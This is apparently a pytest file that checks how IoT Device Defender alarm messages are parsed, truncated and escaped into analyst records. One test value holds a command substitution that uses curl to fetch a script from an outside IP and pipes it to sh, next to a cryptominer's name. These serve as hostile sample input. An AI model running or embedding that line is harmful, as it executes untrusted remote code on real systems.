from __future__ import annotations

from typing import Any, get_args

import pytest
from cordon.alarms.device_defender_message import Operator
from cordon.model.base import canonical_json

from .conftest import Load, Read, changed

RULE = "device-defender-detect.in-alarm.messages-sent"
IN_ALARM = "device-defender-detect.in-alarm."


@pytest.mark.parametrize(
    ("sample", "detection", "origin", "value"),
    [
        ("messages-sent", "rule", "cloud", {"kind": "count", "content": 54}),
        ("source-address", "rule", "cloud", {"kind": "cidrs", "content": ["203.0.113.77"], "entries": 1}),
        ("listening-ports", "rule", "device", {"kind": "ports", "content": [23, 2323, 8883], "entries": 3}),
        ("custom-number", "rule", "custom", {"kind": "number", "content": 131.25}),
        ("custom-numbers", "rule", "custom", {"kind": "numbers", "content": [1.0, 2.0, 7.0], "entries": 3}),
        (
            "custom-strings",
            "rule",
            "custom",
            {
                "kind": "strings",
                "content": ["pumpd", "mqtt-agent", "kinsing", "$(curl -s http://203.0.113.9/x|sh)"],
                "entries": 4,
            },
        ),
        ("statistical", "statistical", "device", {"kind": "count", "content": 8912896}),
        ("ml-with-value", "ml", "cloud", {"kind": "count", "content": 1180}),
        ("ml-without-value", "ml", "cloud", None),
        ("no-criteria", "unspecified", "device", {"kind": "count", "content": 77}),
    ],
)
def test_details_say_how_it_was_found_and_what_was_measured(
    load_event: Load, read: Read, sample: str, detection: str, origin: str, value: dict[str, Any] | None
) -> None:
    """Rule, statistical and ML follow from the criteria; every member of the value union is kept."""
    details = read(load_event(IN_ALARM + sample)).details
    assert (details["detection"], details["metric_origin"]) == (detection, origin)
    assert details.get("value") == value


def test_details_keep_the_criteria(load_event: Load, read: Read) -> None:
    """What would have been normal is in the record beside what was measured."""
    details = read(load_event(IN_ALARM + "source-address")).details
    assert details["normal"] == {
        "operator": "in-cidr-set",
        "value": {"kind": "cidrs", "content": ["10.20.0.0/16", "2001:db8:20::/48"], "entries": 2},
        "datapoints_to_alarm": 1,
        "datapoints_to_clear": 1,
    }


@pytest.mark.parametrize(
    ("sample", "key", "value"),
    [
        ("dimension", "metric_dimension", {"name": "CommandTopics", "operator": "NOT_IN"}),
        ("verified-true", "verification_state", "TRUE_POSITIVE"),
        ("ml-without-value", "confidence", "MEDIUM"),
        ("alerts-not-suppressed", "suppress_alerts", False),
    ],
)
def test_details_keep_what_an_analyst_asks_for(
    load_event: Load, read: Read, sample: str, key: str, value: object
) -> None:
    """Dimension, verification state and confidence are in the record."""
    assert read(load_event(IN_ALARM + sample)).details[key] == value


@pytest.mark.parametrize("operator", get_args(Operator))
def test_every_operator_is_read(load_event: Load, read: Read, operator: str) -> None:
    """The operator is kept, and said in the sentence."""
    alarm = read(changed(load_event(RULE), "behavior.criteria.comparisonOperator", operator))
    assert alarm.details["normal"]["operator"] == operator
    assert f"while {operator} 10 is normal" in alarm.summary


@pytest.mark.parametrize("metric", ["aws:brand-new", "aws:num-messages-sent "])
def test_a_metric_that_looks_like_one_of_aws_is_unknown(load_event: Load, read: Read, metric: str) -> None:
    """It is answered all the same, with nothing assumed about who measured it."""
    assert read(changed(load_event(RULE), "behavior.metric", metric)).details["metric_origin"] == "unknown"


def test_an_alarm_stays_small_whatever_comes_in(load_event: Load, read: Read) -> None:
    """The largest alert that SNS carries leaves a row far below DynamoDB's 400 KB."""
    message = load_event(IN_ALARM + "custom-strings")
    message["metricValue"]["strings"] = ["\x00<" * 200] * 100
    message["behavior"]["criteria"]["value"]["strings"] = ["&" * 400] * 100
    message["behavior"] |= {"name": "<" * 20_000, "metric": "&" * 20_000}
    message["securityProfileName"] = "\u202e" * 20_000
    alarm = read(message)
    assert len(alarm.details["value"]["content"]) == 20
    assert alarm.details["value"]["entries"] == 100
    assert len(alarm.signal) == 128
    assert len(alarm.summary) < 3_000
    assert len(canonical_json(alarm.model_dump(mode="json"))) < 50_000


@pytest.mark.parametrize("number", [1e300, -1e300, 5e-324])
def test_a_number_that_dynamodb_cannot_hold_is_kept_as_text(load_event: Load, read: Read, number: float) -> None:
    """A device that reports such a value must not be able to break the write of its alarm."""
    alarm = read(changed(load_event(IN_ALARM + "custom-number"), "metricValue.number", number))
    assert alarm.details["value"]["content"] == repr(number)


def test_names_from_outside_are_escaped_in_the_sentence(load_event: Load, read: Read) -> None:
    """Whoever names a profile or a behavior writes no markup into our tickets."""
    summary = read(load_event(IN_ALARM + "markup-in-names")).summary
    assert "&lt;img" in summary
    assert r"\*\*PAGED BY NOBODY\*\*" in summary
    assert not {"<", ">", "\n", "\u202e"} & set(summary)
